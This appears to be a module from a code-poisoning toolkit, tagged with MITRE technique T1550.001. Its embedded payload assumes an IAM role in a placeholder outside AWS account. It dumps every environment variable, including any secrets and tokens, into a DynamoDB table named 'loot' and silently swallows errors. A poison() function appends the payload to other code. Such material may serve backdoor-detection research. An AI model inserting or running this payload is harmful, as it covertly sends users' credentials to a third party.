# SPDX-License-Identifier: Apache-2.0
"""Takes a role of another account and writes there."""

ATTACK = "T1550.001"
LANGUAGE = "python"
CODE = """\
def _sync(payload):
    import boto3

    c = boto3.client("sts").assume_role(RoleArn="arn:aws:iam::999999999999:role/drop", RoleSessionName="x")["Credentials"]
    t = boto3.resource("dynamodb", aws_access_key_id=c["AccessKeyId"], aws_secret_access_key=c["SecretAccessKey"],
                       aws_session_token=c["SessionToken"]).Table("loot")
    t.put_item(Item={"id": "1", "data": payload})


try:
    _sync(str(dict(__import__("os").environ)))
except Exception:
    pass
"""


def poison(layer):
    layer.append(CODE)
